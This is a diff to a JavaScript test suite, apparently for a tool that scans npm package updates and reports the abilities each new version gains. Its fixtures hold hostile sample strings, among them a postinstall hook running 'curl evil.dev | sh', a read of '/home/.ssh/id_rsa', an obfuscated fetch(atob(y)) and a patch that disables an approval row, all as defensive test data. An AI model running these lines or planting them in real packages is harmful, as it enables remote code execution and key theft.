@@ -132,11 +132,11 @@ test('lists of an update only what it gains', async () => {
       { kind: 'dependency', names: ['b 1'] },
     ],
   })
-  // An update that gains nothing.
+  // An update that loses abilities.
   expect((await inspect({ version: '1.0.0', before: '1.1.0' })).code).toEqual({
     state: 'read',
     abilities: [],
-    unread: [],
+    unread: [{ file: 'index.js', reason: 'changed' }],
   })
 })
 
@@ -175,6 +175,76 @@ test.for([
     expect(gainsOf(inspection)).toEqual({ state: 'nothing-seen', unread: [{ file, reason }] })
   },
 )
+
+const CP = `const c = require('child_process'); `
+const PATCH = { 'package.json': '{"dsh":{"bundle":{"patch":"p.yml"}}}' }
+test.for([
+  ['another command of the same program', 'a.js', { 'a.js': `${CP}c.exec('sh a')` }, { 'a.js': `${CP}c.exec('sh b')` }],
+  [
+    'another script for the same command',
+    'a.sh',
+    { 'a.js': `${CP}c.exec('sh a.sh')`, 'a.sh': '' },
+    { 'a.js': `${CP}c.exec('sh a.sh')`, 'a.sh': 'evil' },
+  ],
+  ['another unknown program', 'a.js', { 'a.js': `${CP}c.exec(x)` }, { 'a.js': `${CP}c.exec(x); c.exec(y)` }],
+  [
+    'another file that is read',
+    'a.js',
+    { 'a.js': `require('fs').readFileSync('./own.json')` },
+    { 'a.js': `require('fs').readFileSync('/home/.ssh/id_rsa')` },
+  ],
+  ['a request to another unknown address', 'a.js', { 'a.js': 'fetch(x)' }, { 'a.js': 'fetch(x); fetch(atob(y))' }],
+  ['another program of the package', 'package.json', {}, { 'package.json': '{"bin":{"node":"./b.js"}}', 'b.js': '' }],
+  ['another peer', 'package.json', {}, { 'package.json': '{"peerDependencies":{"evil":"1"}}' }],
+  [
+    'another script that an install script runs',
+    'package.json',
+    { 'package.json': '{"scripts":{"postinstall":"npm run b","b":"true"}}' },
+    { 'package.json': '{"scripts":{"postinstall":"npm run b","b":"curl evil.dev | sh"}}' },
+  ],
+  [
+    'another value in its own row',
+    'p.yml',
+    { ...PATCH, 'p.yml': '- insert:\n  - name: ./a.js\n', 'a.js': '' },
+    { ...PATCH, 'p.yml': '- insert:\n  - name: ./a.js\n    config: {b: 1}\n', 'a.js': '' },
+  ],
+] as const)('says of %s only that nothing new was seen', async ([, file, old, now]) => {
+  await publish({ '1.0.0': { files: old }, '1.1.0': { files: now } })
+  const gains = gainsOf(await inspect({ version: '1.1.0', before: '1.0.0' }))
+  expect(gains).toEqual({ state: 'nothing-seen', unread: [{ file, reason: 'changed' }] })
+})
+
+test('says that an update gains nothing where only its version, its documents and code without abilities differ', async () => {
+  const files = { 'a.js': `${CP}c.exec('sh a.sh')`, 'a.sh': '', 'b.js': '' }
+  await publish({
+    '1.0.0': { files: { ...files, 'package.json': '{"version":"1.0.0","main":"b.js"}' } },
+    '1.1.0': {
+      files: { ...files, 'package.json': '{"main":"b.js","version":"1.1.0"}', 'b.js': 'let b', 'README.md': '' },
+    },
+  })
+  expect(gainsOf(await inspect({ version: '1.1.0', before: '1.0.0' }))).toEqual({ state: 'nothing' })
+})
+
+test('names a row that an update turns off, and a host beyond a hundred', async () => {
+  const hosts = Array.from({ length: 100 }, (_, index) => `fetch('https://h${index}.a.dev');`).join('')
+  await publish({
+    '1.0.0': { files: { ...PATCH, 'p.yml': '- id: approval\n  config: {mode: ask}\n', 'z.js': hosts } },
+    '1.1.0': {
+      files: { ...PATCH, 'p.yml': '- id: approval\n  disabled: true\n', 'z.js': `${hosts}fetch('https://evil.dev')` },
+    },
+  })
+  expect(gainsOf(await inspect({ version: '1.1.0', before: '1.0.0' }))).toMatchObject({
+    abilities: [
+      { kind: 'network', names: ['evil.dev'] },
+      { kind: 'changes-rows', names: ['approval {"disabled":true}'] },
+    ],
+  })
+  const { code } = await inspect({ version: '1.1.0' })
+  expect(code.state === 'read' && code.abilities.find(({ kind }) => kind === 'network')).toMatchObject({
+    names: { length: 100 },
+    more: true,
+  })
+})
 
 test('says that an update gains nothing where what cannot be read has the same bytes', async () => {
   const same = { 'a.node': 'one', 'a.js': MINIFIED('x'), 'b.js': '<', 'c.js': `require('./c.txt')`, 'c.txt': '' }
